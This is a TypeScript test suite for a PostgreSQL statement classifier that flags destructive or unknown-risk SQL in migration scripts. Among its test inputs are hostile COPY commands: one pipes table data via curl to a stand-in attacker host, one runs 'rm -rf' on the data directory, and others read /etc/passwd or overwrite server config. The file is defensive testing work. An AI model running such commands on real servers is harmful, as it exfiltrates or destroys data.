import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import fc from "fast-check";
import {
  classifySql,
  deleteAsSelect,
  loadParser,
  transactionControl,
} from "../../src/engines/postgres/classify.js";
import { isDestructive } from "../../src/core/plan/operation.js";
import { secrets } from "../../src/core/redact.js";
import { losslessTypeChange } from "../../src/engines/postgres/type-change.js";

before(async () => {
  await loadParser();
});

type Row = [sql: string, kind: string, dataLoss: string, target?: string, extra?: Record<string, unknown>];

const TABLE: Row[] = [
  ["DROP TABLE products", "drop-table", "destructive", "products"],
  [
    'drop table if exists "Sales"."Order Items" cascade',
    "drop-table",
    "destructive",
    "Sales.Order Items",
    { cascadeRequested: true, missingOk: true },
  ],
  ["DROP TABLE public.a, b", "drop-table", "destructive", "public.a"],
  ["DROP DATABASE shop", "drop-database", "destructive", "shop"],
  ["DROP DATABASE IF EXISTS shop WITH (FORCE)", "drop-database", "destructive", "shop", { missingOk: true }],
  ["DROP SCHEMA sales CASCADE", "drop-schema", "destructive", "sales", { cascadeRequested: true }],
  ["DROP MATERIALIZED VIEW mv_daily", "drop-materialized-view", "destructive", "mv_daily"],
  ["DROP SEQUENCE invoice_seq", "drop-sequence", "destructive", "invoice_seq"],
  ["DROP TYPE mood CASCADE", "drop-type", "destructive", "mood", { cascadeRequested: true }],
  ["DROP EXTENSION hstore", "drop-extension", "destructive", "hstore"],
  ["DROP OWNED BY app_user", "drop-owned", "destructive", "app_user"],
  ["DROP INDEX CONCURRENTLY idx_orders_at", "drop-index", "recoverable", "idx_orders_at"],
  ["DROP VIEW merchant_feed", "drop-view", "recoverable", "merchant_feed"],
  ["DROP FUNCTION f(int)", "drop-function", "recoverable"],
  ["TRUNCATE orders", "truncate", "destructive", "orders", { filter: "all-rows" }],
  [
    "TRUNCATE TABLE ONLY orders, items RESTART IDENTITY CASCADE",
    "truncate",
    "destructive",
    "orders",
    { cascadeRequested: true },
  ],
  ["DELETE FROM orders", "delete", "destructive", "orders", { filter: "all-rows" }],
  ["DELETE FROM orders WHERE true", "delete", "destructive", "orders", { filter: "always-true" }],
  ["DELETE FROM orders WHERE 1 = 1", "delete", "destructive", "orders", { filter: "always-true" }],
  ["delete from orders where id = id", "delete", "destructive", "orders", { filter: "always-true" }],
  ["DELETE FROM orders WHERE 1 = 1 OR id = 3", "delete", "destructive", "orders", { filter: "always-true" }],
  ["DELETE FROM orders WHERE id = 3", "delete", "destructive", "orders", { filter: "filtered" }],
  [
    "DELETE FROM ONLY s.orders o USING items i WHERE o.id = i.order_id",
    "delete",
    "destructive",
    "s.orders",
    { filter: "filtered" },
  ],
  ["UPDATE products SET price = 0", "update", "destructive", "products", { filter: "all-rows" }],
  [
    "update products set price = 0 where 'x' = 'x'",
    "update",
    "destructive",
    "products",
    { filter: "always-true" },
  ],
  [
    "UPDATE products SET price = 0 WHERE sku = 'A'",
    "update",
    "destructive",
    "products",
    { filter: "filtered" },
  ],
  [
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
    "delete",
    "destructive",
    "orders",
  ],
  [
    "INSERT INTO t SELECT * FROM (WITH x AS (UPDATE u SET a = 1 RETURNING *) SELECT * FROM x) s",
    "update",
    "destructive",
    "u",
  ],
  ["INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", "upsert", "destructive", "t"],
  ["INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING", "insert", "none"],
  ["ALTER TABLE orders DROP COLUMN note", "alter-table-drop-column", "destructive", "orders.note"],
  [
    "ALTER TABLE IF EXISTS orders DROP COLUMN IF EXISTS note CASCADE",
    "alter-table-drop-column",
    "destructive",
    "orders.note",
    { missingOk: true, cascadeRequested: true },
  ],
  ["ALTER TABLE orders ALTER COLUMN total TYPE int", "alter-column-type", "destructive", "orders.total"],
  ["ALTER TABLE orders ALTER COLUMN total SET NOT NULL", "alter-column-set-not-null", "none"],
  ["ALTER TABLE orders DROP CONSTRAINT orders_pkey", "alter-table-drop-constraint", "recoverable"],
  ["ALTER TABLE orders ADD COLUMN note text", "alter-table", "none"],
  ["SELECT lo_unlink(16403)", "function-call", "destructive", "lo_unlink"],
  ["SELECT pg_catalog.lo_unlink(oid) FROM pg_largeobject_metadata", "function-call", "destructive"],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", "unknown", "unknown"],
  ["CALL archive_orders()", "unknown", "unknown", "archive_orders"],
  ["EXECUTE stmt1", "unknown", "unknown"],
  ["SELECT cleanup_old_rows()", "function-call", "unknown", "cleanup_old_rows"],
  ["SELECT count(*), max(id) FROM orders", "read", "none"],
  ["CREATE TABLE t (id int primary key)", "create", "none"],
  ["CREATE INDEX CONCURRENTLY i ON t (a)", "index", "none"],
  ["VACUUM FULL orders", "vacuum", "none"],
  ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge", "destructive", "t"],
  ["this is not sql", "unknown", "unknown"],
];

describe("classifySql: table of statements", () => {
  for (const [sql, kind, dataLoss, target, extra] of TABLE) {
    it(`${sql} → ${kind} (${dataLoss})`, () => {
      const ops = classifySql(sql);
      assert.ok(ops.length > 0, "at least one operation");
      const first = ops[0];
      assert.equal(first?.kind, kind);
      assert.equal(first?.dataLoss, dataLoss);
      if (target) {
        const t = first?.target;
        assert.equal(t ? [t.schema, t.name].filter(Boolean).join(".") : "", target);
      }
      for (const [key, value] of Object.entries(extra ?? {})) {
        assert.equal((first as unknown as Record<string, unknown>)[key], value, key);
      }
      assert.ok(first?.reason.length, "every operation says why");
    });
  }
});

describe("classifySql: statements and spellings", () => {
  it("splits multi-statement input and keeps each statement's text (comments, $$ bodies, unicode)", () => {
    const sql = `-- cleanup\nCREATE FUNCTION f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql;\n/* x */ DROP TABLE "Ünïcode Tàble";\nTRUNCATE a;`;
    const ops = classifySql(sql);
    assert.deepEqual(
      ops.map((o) => [o.statementIndex, o.kind]),
      [
        [0, "create-function"],
        [1, "drop-table"],
        [2, "truncate"],
      ],
    );
    assert.match(ops[1]?.statement ?? "", /DROP TABLE "Ünïcode Tàble"$/);
    assert.equal(ops[1]?.target?.name, "Ünïcode Tàble");
    assert.equal(ops[2]?.statement, "TRUNCATE a");
  });

  it("case, quoting and schema qualification do not matter", () => {
    for (const sql of [
      "drop table PUBLIC.Orders",
      'DROP TABLE "public"."orders"',
      "DrOp TaBlE public.orders",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.kind, "drop-table", sql);
      assert.equal(first?.target?.schema, "public");
      assert.equal(first?.target?.name, "orders");
    }
  });

  it("empty input and comments only give no operations", () => {
    assert.deepEqual(classifySql(""), []);
    assert.deepEqual(classifySql("-- nothing\n/* at all */"), []);
  });

  it("a parse error names the parser's message and is treated as destructive", () => {
    const [first] = classifySql("DROP TABLEX orders");
    assert.equal(first?.kind, "unknown");
    assert.match(first?.reason ?? "", /syntax error/);
    assert.ok(isDestructive(first?.dataLoss ?? "none"));
  });
});

const identifier = fc.oneof(
  fc.stringMatching(/^[a-z_][a-z0-9_]{0,10}$/),
  fc.string({ minLength: 1, maxLength: 8 }).map((s) => `"${s.replace(/"/g, '""').replace(/\0/g, "")}"`),
);
const qualified = fc
  .tuple(fc.option(identifier, { nil: undefined }), identifier)
  .map(([s, n]) => (s ? `${s}.${n}` : n));
const casing = (sql: string, upper: boolean[]) =>
  [...sql].map((c, i) => (upper[i % upper.length] ? c.toUpperCase() : c.toLowerCase())).join("");
const comment = fc.constantFrom("", "/* c */ ", "-- note\n", "\n\t");

/** Keyword-case changes must not touch quoted identifiers: apply casing to the template only. */
const destructiveStatement = fc
  .tuple(
    fc.constantFrom(
      "DROP TABLE %",
      "DROP TABLE IF EXISTS % CASCADE",
      "TRUNCATE %",
      "TRUNCATE TABLE ONLY % RESTART IDENTITY",
      "DELETE FROM %",
      "DELETE FROM % WHERE true",
      "DELETE FROM % WHERE id > 3",
      "UPDATE % SET a = 1",
      "DROP SCHEMA % CASCADE",
      "DROP MATERIALIZED VIEW %",
      "DROP SEQUENCE %",
      "ALTER TABLE % DROP COLUMN c",
      "WITH x AS (DELETE FROM % RETURNING 1) SELECT 1",
      "DO $$ BEGIN PERFORM 1; END $$",
    ),
    qualified,
    fc.array(fc.boolean(), { minLength: 1, maxLength: 5 }),
    comment,
  )
  .map(([template, name, upper, lead]) => lead + casing(template, upper).replace("%", name));

describe("classifySql: properties", () => {
  it("never throws, whatever the input", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => {
        const ops = classifySql(text);
        for (const o of ops)
          assert.ok(["none", "recoverable", "destructive", "unknown"].includes(o.dataLoss));
      }),
      { numRuns: 500 },
    );
  });

  it("never calls a destructive statement harmless", () => {
    fc.assert(
      fc.property(destructiveStatement, (sql) => {
        const ops = classifySql(sql);
        assert.ok(
          ops.some((o) => isDestructive(o.dataLoss)),
          `${sql} → ${JSON.stringify(ops.map((o) => [o.kind, o.dataLoss]))}`,
        );
      }),
      { numRuns: 500 },
    );
  });
});

describe("classifySql: what earlier statements change (security review)", () => {
  const losses = (sql: string) => classifySql(sql).map((o) => [o.kind, o.dataLoss]);

  it("DML after CREATE TRIGGER / RULE / event trigger / CREATE OR REPLACE FUNCTION is unknown", () => {
    const trigger = classifySql(
      "CREATE FUNCTION zap() RETURNS trigger AS $$ BEGIN DELETE FROM carts; RETURN NEW; END $$ LANGUAGE plpgsql; " +
        "CREATE TRIGGER z BEFORE INSERT ON q FOR EACH ROW EXECUTE FUNCTION zap(); INSERT INTO q VALUES (1)",
    );
    assert.deepEqual(
      trigger.map((o) => [o.kind, o.dataLoss]),
      [
        ["create-function", "none"],
        ["create-trigger", "none"],
        ["insert", "unknown"],
      ],
    );
    assert.match(trigger[1]?.reason ?? "", /changes what later statements do/);
    assert.match(trigger[2]?.reason ?? "", /CREATE TRIGGER/);
    assert.deepEqual(
      losses("CREATE RULE r AS ON INSERT TO q DO ALSO DELETE FROM carts; INSERT INTO q VALUES (1)"),
      [
        ["create-rule", "none"],
        ["insert", "unknown"],
      ],
    );
    for (const later of [
      "UPDATE q SET a = 1 WHERE id = 2",
      "DELETE FROM q WHERE id = 2",
      "TRUNCATE q",
      "COPY q FROM STDIN",
      "MERGE INTO q USING s ON q.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (1)",
    ]) {
      const ops = classifySql(`CREATE RULE r AS ON UPDATE TO q DO INSTEAD NOTHING; ${later}`);
      assert.equal(ops[ops.length - 1]?.dataLoss, "unknown", later);
    }
    assert.equal(
      classifySql(
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f(); INSERT INTO q VALUES (1)",
      ).at(-1)?.dataLoss,
      "unknown",
    );
    assert.equal(
      classifySql(
        "CREATE OR REPLACE FUNCTION audit() RETURNS trigger AS $$ BEGIN RETURN NEW; END $$ LANGUAGE plpgsql; INSERT INTO q VALUES (1)",
      ).at(-1)?.dataLoss,
      "unknown",
    );
    assert.equal(
      classifySql("ALTER TABLE q ENABLE TRIGGER ALL; INSERT INTO q VALUES (1)").at(-1)?.dataLoss,
      "unknown",
    );
    // Without any of those, an insert is still harmless.
    assert.deepEqual(losses("INSERT INTO q VALUES (1)"), [["insert", "none"]]);
  });

  it("an INSERT whose source has other operations still keeps its own insert operation", () => {
    const ops = classifySql("WITH x AS (DELETE FROM a RETURNING *) INSERT INTO q SELECT * FROM x");
    assert.ok(ops.some((o) => o.kind === "insert" && o.target?.name === "q"));
  });

  it("COPY with a program or a server file is unknown; COPY FROM STDIN / TO STDOUT are not", () => {
    for (const sql of [
      "COPY carts FROM PROGRAM 'rm -rf /var/lib/postgresql'",
      "COPY carts TO PROGRAM 'curl -d @- evil.example'",
      "COPY carts TO '/var/lib/postgresql/data/postgresql.auto.conf'",
      "COPY carts FROM '/etc/passwd'",
      "COPY (SELECT 1) TO '/tmp/x'",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "unknown", sql);
      assert.match(first?.reason ?? "", /shell command|file on the database server/, sql);
    }
    assert.deepEqual(losses("COPY carts FROM STDIN"), [["copy-from", "none"]]);
    assert.equal(classifySql("COPY carts FROM STDIN")[0]?.target?.name, "carts");
    assert.deepEqual(losses("COPY carts TO STDOUT"), [["read", "none"]]);
    assert.deepEqual(losses("COPY (SELECT * FROM carts) TO STDOUT WITH CSV"), [["read", "none"]]);
  });

  it("COMMIT, ROLLBACK, BEGIN, END, PREPARE TRANSACTION are unknown; savepoints are fine", () => {
    for (const sql of [
      "COMMIT",
      "END",
      "ROLLBACK",
      "ABORT",
      "BEGIN",
      "START TRANSACTION",
      "PREPARE TRANSACTION 'x'",
      "COMMIT PREPARED 'x'",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "unknown", sql);
      assert.match(first?.reason ?? "", /controls transactions itself/, sql);
    }
    assert.deepEqual(
      losses("TRUNCATE carts; COMMIT; SELECT 1/0").map(([, loss]) => loss),
      ["destructive", "unknown", "none"],
    );
    assert.deepEqual(losses("SAVEPOINT a; RELEASE SAVEPOINT a; SAVEPOINT b; ROLLBACK TO SAVEPOINT b"), [
      ["savepoint", "none"],
      ["savepoint", "none"],
      ["savepoint", "none"],
      ["savepoint", "none"],
    ]);
    assert.deepEqual(transactionControl("SELECT 1; COMMIT; begin; SAVEPOINT a; ROLLBACK TO a"), [
      "COMMIT",
      "BEGIN",
    ]);
    assert.deepEqual(transactionControl("SAVEPOINT a; RELEASE a"), []);
  });

  it("statements after SET search_path / role / session authorization are unknown", () => {
    for (const set of [
      "SET search_path = other, public",
      "SET LOCAL search_path TO other",
      "set SEARCH_PATH = other",
      "RESET search_path",
      "RESET ALL",
      "SET ROLE other_owner",
      "SET SESSION AUTHORIZATION other_owner",
      "SELECT set_config('search_path', 'other', false)",
    ]) {
      const ops = classifySql(`${set}; TRUNCATE carts; SELECT 1`);
      const later = ops.filter((o) => o.statementIndex > 0);
      assert.ok(
        later.length >= 2 && later.every((o) => o.dataLoss === "unknown"),
        `${set}: ${JSON.stringify(later)}`,
      );
    }
    assert.equal(classifySql("SET statement_timeout = 0; TRUNCATE carts")[1]?.dataLoss, "destructive");
  });

  it("a statement whose target was created, renamed or dropped earlier in the script is unknown", () => {
    for (const sql of [
      "ALTER TABLE carts RENAME TO x; TRUNCATE x",
      "ALTER TABLE carts RENAME TO x; ALTER TABLE y RENAME TO carts; TRUNCATE carts",
      "CREATE TABLE other.carts (id int); DELETE FROM carts",
      "ALTER TABLE other.carts SET SCHEMA public; TRUNCATE public.carts",
      "ALTER SCHEMA public RENAME TO old; ALTER SCHEMA other RENAME TO public; TRUNCATE carts",
      "CREATE SCHEMA app; UPDATE app.carts SET a = 1",
      "CREATE VIEW carts AS SELECT 1; UPDATE carts SET a = 1",
    ]) {
      const last = classifySql(sql).at(-1);
      assert.equal(last?.dataLoss, "unknown", sql);
      assert.match(last?.reason ?? "", /its target is changed earlier in this script/, sql);
    }
    assert.equal(
      classifySql("ALTER TABLE carts RENAME TO x; TRUNCATE orders").at(-1)?.dataLoss,
      "destructive",
    );
  });

  it("password literals are masked in the statement text and registered as secrets; the digest is unchanged", () => {
    const cases: [string, string][] = [
      ["ALTER ROLE x PASSWORD 'hunter2secret'", "hunter2secret"],
      ["CREATE USER app WITH ENCRYPTED PASSWORD 'it''s-secret' VALID UNTIL 'infinity'", "it's-secret"],
      ["CREATE ROLE app LOGIN PASSWORD E'back\\'slash-pw'", "back'slash-pw"],
      ["ALTER USER app PASSWORD $pw$dollar-secret$pw$", "dollar-secret"],
      [
        "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', password 'mapping-secret')",
        "mapping-secret",
      ],
      [
        "ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET password 'mapping-secret2')",
        "mapping-secret2",
      ],
      ["SELECT dblink_connect('host=db user=app password=dblink-secret dbname=x')", "dblink-secret"],
    ];
    for (const [sql, secret] of cases) {
      const ops = classifySql(`SELECT 1; ${sql}; SELECT 2`);
      const op = ops.find((o) => o.statementIndex === 1);
      assert.ok(op, sql);
      assert.ok(!op.statement.includes(secret), `${sql} → ${op.statement}`);
      assert.match(op.statement, /\*\*\*\*\*/, sql);
      assert.equal(secrets.redact(`leaked: ${secret}`), "leaked: *****", sql);
      assert.equal(ops.find((o) => o.statementIndex === 2)?.statement, "SELECT 2");
    }
    const [a] = classifySql("ALTER ROLE x PASSWORD 'first-secret'");
    const [b] = classifySql("ALTER ROLE x PASSWORD 'other-secret'");
    assert.equal(a?.statement, b?.statement);
    assert.notEqual(a?.normalized, b?.normalized, "the identity covers the real statement");
    assert.doesNotMatch(
      classifySql("ALTER ROLE x PASSWORDX 'unparsed-secret'")[0]?.statement ?? "",
      /unparsed-secret/,
    );
  });
});

describe("classifySql: tables the script creates itself", () => {
  before(async () => {
    await loadParser();
  });

  it("statements on a table created earlier in the script lose nothing that existed before", () => {
    const ops = classifySql(
      "CREATE TABLE t (id int); INSERT INTO t VALUES (1); ALTER TABLE t DROP COLUMN id; TRUNCATE t",
    );
    assert.deepEqual(
      ops.map((o) => [o.kind, o.dataLoss]),
      [
        ["create", "none"],
        ["insert", "none"],
        ["alter-table-drop-column", "none"],
        ["truncate", "none"],
      ],
    );
    assert.equal(ops[3]?.createdEarlier, true);
  });

  it("the new table shadows or replaces the old one: the statements on it lose nothing more", () => {
    // The temporary table comes first in the search path; the DROP of the old table is itself destructive.
    assert.equal(classifySql("CREATE TEMP TABLE carts (id int); DROP TABLE carts")[1]?.dataLoss, "none");
    const replaced = classifySql(
      "DROP TABLE carts; CREATE TABLE carts (id int); ALTER TABLE carts DROP COLUMN id",
    );
    assert.deepEqual(
      replaced.map((o) => o.dataLoss),
      ["destructive", "none", "none"],
    );
    // Created in another schema: an unqualified name may reach either table.
    assert.equal(classifySql("CREATE TABLE other.carts (id int); DELETE FROM carts")[1]?.dataLoss, "unknown");
  });

  it("but not with IF NOT EXISTS (an existing table keeps its rows), nor after a rename", () => {
    assert.equal(classifySql("CREATE TABLE IF NOT EXISTS t (id int); TRUNCATE t")[1]?.dataLoss, "unknown");
    assert.equal(
      classifySql("CREATE TABLE t (id int); ALTER TABLE t RENAME TO u; TRUNCATE u")[2]?.dataLoss,
      "unknown",
    );
    assert.equal(classifySql("ALTER TABLE carts RENAME TO x; TRUNCATE x")[1]?.dataLoss, "unknown");
  });
});

describe("classifySql: every statement is in the plan (issue 9)", () => {
  it("CREATE VIEW on its own is one `none` operation, not an empty plan", () => {
    const ops = classifySql("CREATE VIEW v AS SELECT 1 AS one");
    assert.deepEqual(
      ops.map((o) => [o.kind, o.dataLoss]),
      [["create-view", "none"]],
    );
  });

  it("no statement kind vanishes from a script: each statement has at least one operation", () => {
    const statements = [
      "CREATE VIEW v AS SELECT 1 AS one",
      "CREATE OR REPLACE VIEW v2 AS SELECT 2 AS two",
      "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
      "GRANT SELECT ON t TO app",
      "REVOKE SELECT ON t FROM app",
      "COMMENT ON TABLE t IS 'x'",
      "SET statement_timeout = 0",
      "SET lock_timeout TO '5s'",
      "ALTER TABLE t ADD COLUMN c int, ADD COLUMN d int",
      "CREATE MATERIALIZED VIEW mv AS SELECT 1",
      "CREATE TYPE mood AS ENUM ('a')",
      "CREATE DOMAIN d AS int",
      "CREATE ROLE r",
      "CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)",
      "ALTER DOMAIN d SET DEFAULT 1",
      "CREATE CAST (int AS text) WITH INOUT",
      "CREATE FOREIGN TABLE ft (a int) SERVER s",
      "RESET statement_timeout",
      "REASSIGN OWNED BY a TO b",
      "DROP ROLE old_app",
      "ALTER DATABASE d CONNECTION LIMIT 5",
      "ALTER ROLE r SET work_mem = '1MB'",
      "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO x",
      "SECURITY LABEL ON TABLE t IS 'x'",
      "SELECT 1",
      // Last: a DISCARD makes the statements after it unplannable (by design).
      "DISCARD PLANS",
    ];
    const ops = classifySql(statements.join(";\n"));
    const indexes = new Set(ops.map((o) => o.statementIndex));
    for (let i = 0; i < statements.length; i++)
      assert.ok(indexes.has(i), `statement ${i} (${statements[i]}) has an operation`);
    // None of these changes data: no over-block either.
    assert.deepEqual(
      ops.filter((o) => o.dataLoss !== "none" && o.dataLoss !== "recoverable").map((o) => o.statement),
      [],
    );
  });
});

describe("classifySql: statements that lose nothing (issue 9)", () => {
  it("EXPLAIN without ANALYZE does not run the statement; EXPLAIN ANALYZE does", () => {
    assert.deepEqual(
      classifySql("EXPLAIN DELETE FROM orders").map((o) => [o.kind, o.dataLoss]),
      [["read", "none"]],
    );
    assert.deepEqual(
      classifySql("EXPLAIN (COSTS OFF, FORMAT JSON) UPDATE orders SET a = 1").map((o) => o.dataLoss),
      ["none"],
    );
    for (const sql of [
      "EXPLAIN ANALYZE DELETE FROM orders",
      "EXPLAIN (ANALYZE) DELETE FROM orders",
      "EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM orders",
    ]) {
      const ops = classifySql(sql);
      assert.equal(ops[0]?.kind, "delete", sql);
      assert.equal(ops[0]?.dataLoss, "destructive", sql);
    }
    assert.deepEqual(
      classifySql("EXPLAIN (ANALYZE false) DELETE FROM orders").map((o) => o.dataLoss),
      ["none"],
    );
    // A function the planner may evaluate stays unknown.
    assert.ok(classifySql("EXPLAIN SELECT cleanup()").some((o) => o.dataLoss === "unknown"));
  });

  it("MERGE with only WHEN NOT MATCHED THEN INSERT (or DO NOTHING) adds rows only", () => {
    const ops = classifySql(
      "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id) WHEN MATCHED THEN DO NOTHING",
    );
    assert.deepEqual(
      ops.map((o) => [o.kind, o.dataLoss]),
      [["merge", "none"]],
    );
    assert.equal(
      classifySql("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v")[0]?.dataLoss,
      "destructive",
    );
    assert.equal(
      classifySql(
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id) WHEN MATCHED AND s.gone THEN DELETE",
      )[0]?.dataLoss,
      "destructive",
    );
    // What the source does is still seen.
    assert.ok(
      classifySql(
        "MERGE INTO t USING (SELECT purge() AS id) s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
      ).some((o) => o.dataLoss === "unknown"),
    );
  });

  it("DROP TYPE / DOMAIN / COLLATION without CASCADE drops only a definition (it fails if anything uses it)", () => {
    for (const sql of ["DROP TYPE mood", "DROP DOMAIN posint", "DROP TYPE IF EXISTS a, b RESTRICT"]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "recoverable", sql);
      assert.match(first?.reason ?? "", /fails|refuses/, sql);
    }
  });

  it("DROP … CASCADE of a type, domain, collation, extension or function may take columns: destructive until resolved", () => {
    for (const sql of [
      "DROP TYPE mood CASCADE",
      "DROP DOMAIN posint CASCADE",
      "DROP COLLATION mycoll CASCADE",
      "DROP EXTENSION citext CASCADE",
      "DROP FUNCTION f(int) CASCADE",
      "DROP OPERATOR === (int, int) CASCADE",
    ]) {
      const [first] = classifySql(sql);
      assert.equal(first?.dataLoss, "destructive", sql);
      assert.equal(first?.cascadeRequested, true, sql);
    }
  });
});

describe("classifySql: psql meta-commands (issue 9)", () => {
  it("harmless meta-commands are `none` and the SQL around them is planned precisely", () => {
    const sql = [
      "\\set ON_ERROR_STOP on",
      "\\timing on",
      "\\echo 'migrating…'",
      "\\pset format aligned",
      "\\x",
      "CREATE TABLE t (id int);",
      "DELETE FROM orders WHERE id = 3;",
      "DROP TABLE products;",
    ].join("\n");
    const ops = classifySql(sql);
    assert.deepEqual(
      ops.map((o) => [o.statementIndex, o.kind, o.dataLoss]),
      [
        [0, "psql-set", "none"],
        [1, "psql-timing", "none"],
        [2, "psql-echo", "none"],
        [3, "psql-pset", "none"],
        [4, "psql-x", "none"],
        [5, "create", "none"],
        [6, "delete", "destructive"],
        [7, "drop-table", "destructive"],
      ],
    );
    assert.equal(ops[6]?.statement, "DELETE FROM orders WHERE id = 3");
    assert.equal(ops[6]?.filter, "filtered");
    assert.equal(ops[7]?.target?.name, "products");
  });

  it("\\connect, \\i, \\gexec, \\! and :variables make the affected statements unknown, naming the line", () => {
    const connect = classifySql("DELETE FROM a WHERE id = 1;\n\\c other\nINSERT INTO b VALUES (1);");
    assert.deepEqual(
      connect.map((o) => [o.kind, o.dataLoss]),
      [
        ["delete", "destructive"],
        ["psql-c", "unknown"],
        ["insert", "unknown"],
      ],
    );
    assert.match(connect[1]?.reason ?? "", /line 2/);
    assert.match(connect[2]?.reason ?? "", /line 2/);

    const include = classifySql("SELECT 1;\n\\i more.sql\nSELECT 2;");
    assert.deepEqual(
      include.map((o) => o.dataLoss),
      ["none", "unknown", "unknown"],
    );
    assert.match(include[1]?.reason ?? "", /line 2.*more\.sql/);

    const gexec = classifySql("SELECT 1;\nSELECT format('DROP TABLE %I', relname) FROM pg_class\n\\gexec\n");
    assert.deepEqual(
      gexec.map((o) => [o.statementIndex, o.dataLoss]),
      [
        [0, "none"],
        [1, "unknown"],
        [2, "unknown"],
      ],
    );
    assert.match(gexec[1]?.reason ?? "", /line 3/);

    assert.equal(classifySql("\\! rm -rf /tmp/x")[0]?.dataLoss, "unknown");

    const vars = classifySql(
      "UPDATE t SET a = 1 WHERE id = 2;\nDELETE FROM t WHERE id = :'id';\nSELECT now()::date, '12:30', a[1:2];\nDROP TABLE :tbl;",
    );
    assert.deepEqual(
      vars.map((o) => [o.kind, o.dataLoss]),
      [
        ["update", "destructive"],
        ["delete", "unknown"],
        ["read", "none"],
        ["drop-table", "unknown"],
      ],
    );
    assert.match(vars[1]?.reason ?? "", /:'id' \(line 2\)/);
    assert.match(vars[3]?.reason ?? "", /:tbl \(line 4\)/);
    assert.equal(vars[1]?.statement, "DELETE FROM t WHERE id = :'id'");
  });

  it("backslashes and colons inside strings, identifiers, comments and function bodies are SQL, not psql", () => {
    const ops = classifySql(
      "-- \\i nothing :x\nSELECT E'a\\\\b', 'c:d', \"e:f\" /* \\c x */;\nCREATE FUNCTION f() RETURNS int AS $$ BEGIN x := 1; RETURN 1; END $$ LANGUAGE plpgsql;",
    );
    assert.deepEqual(
      ops.map((o) => [o.kind, o.dataLoss]),
      [
        ["read", "none"],
        ["create-function", "none"],
      ],
    );
  });

  it("\\copy is planned as the COPY it runs", () => {
    assert.deepEqual(
      classifySql("\\copy orders (id, total) FROM 'orders.csv' WITH (FORMAT csv)").map((o) => [
        o.kind,
        o.dataLoss,
        o.target?.name,
      ]),
      [["copy-from", "none", "orders"]],
    );
    assert.equal(classifySql("\\copy orders TO 'out.csv'")[0]?.dataLoss, "none");
    assert.equal(classifySql("\\copy orders FROM PROGRAM 'curl x'")[0]?.dataLoss, "unknown");
  });
});

describe("losslessTypeChange: which type changes cannot lose data (issue 9)", () => {
  const varchar = (n: number) => n + 4;
  const numeric = (p: number, s: number) => ((p << 16) | s) + 4;
  const cases: [
    from: string,
    fromMod: number,
    to: string,
    mods: number[],
    expected: "none" | "rewrite" | "lossy",
  ][] = [
    ["varchar", varchar(50), "text", [], "none"],
    ["varchar", varchar(20), "varchar", [21], "none"],
    ["varchar", varchar(20), "varchar", [20], "none"],
    ["varchar", varchar(20), "varchar", [], "none"],
    ["int4", -1, "int8", [], "rewrite"],
    ["int2", -1, "int4", [], "rewrite"],
    ["numeric", numeric(10, 2), "numeric", [12, 2], "none"],
    ["numeric", numeric(10, 2), "numeric", [], "none"],
    ["numeric", numeric(10, 2), "numeric", [13, 3], "rewrite"],
    ["timestamp", -1, "timestamp", [6], "none"],
    ["timestamp", 3, "timestamp", [6], "none"],
    ["timestamptz", 0, "timestamptz", [], "none"],
    ["cidr", -1, "inet", [], "none"],
    ["int4", -1, "text", [], "rewrite"],
    ["int4", -1, "numeric", [10, 0], "rewrite"],
    ["int8", -1, "varchar", [20], "rewrite"],
    ["text", -1, "varchar", [], "none"],
    // Conservative: anything not proven lossless.
    ["text", -1, "varchar", [10], "lossy"],
    ["varchar", -1, "varchar", [100], "lossy"],
    ["varchar", varchar(21), "varchar", [20], "lossy"],
    ["int8", -1, "int4", [], "lossy"],
    ["numeric", numeric(12, 2), "numeric", [10, 2], "lossy"],
    ["numeric", numeric(10, 2), "numeric", [12, 1], "lossy"],
    ["numeric", -1, "numeric", [30, 10], "lossy"],
    ["timestamptz", -1, "timestamp", [], "lossy"],
    ["timestamp", -1, "timestamptz", [], "lossy"],
    ["timestamp", -1, "timestamp", [3], "lossy"],
    ["bpchar", varchar(5), "text", [], "lossy"],
    ["float8", -1, "float4", [], "lossy"],
    ["float4", -1, "float8", [], "lossy"],
    ["int8", -1, "varchar", [10], "lossy"],
    ["jsonb", -1, "json", [], "lossy"],
    ["int4", -1, "numeric", [5, 0], "lossy"],
  ];
  for (const [from, fromMod, to, mods, expected] of cases) {
    it(`${from}(${fromMod}) → ${to}(${mods.join(",")}): ${expected}`, () => {
      const result = losslessTypeChange(
        { name: from, typmod: fromMod },
        { name: to, typmods: mods, array: false },
      );
      assert.equal(result === null ? "lossy" : result.rewrite ? "rewrite" : "none", expected);
    });
  }
  it("a domain, a user type or an array is never proven lossless", () => {
    assert.equal(
      losslessTypeChange({ name: null, typmod: -1 }, { name: "text", typmods: [], array: false }),
      null,
    );
    assert.equal(
      losslessTypeChange({ name: "int4", typmod: -1 }, { name: null, typmods: [], array: false }),
      null,
    );
    assert.equal(
      losslessTypeChange({ name: "int4", typmod: -1 }, { name: "int8", typmods: [], array: true }),
      null,
    );
  });
});

